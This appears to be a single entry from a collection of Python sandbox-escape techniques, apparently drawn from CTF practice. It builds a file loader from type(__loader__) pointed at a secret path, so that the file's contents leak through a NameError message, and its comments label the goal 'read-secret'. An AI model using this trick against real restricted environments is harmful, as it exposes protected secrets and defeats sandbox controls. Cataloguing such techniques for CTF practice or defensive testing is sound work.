# technique: type(__loader__) on another path; executing it puts the text in a NameError
# goal: read-secret
# source: CTF folklore, SourceFileLoader
loader = type(__loader__)('leak', '@SECRET@')
try:
    loader.load_module()
except NameError as error:
    print(error)
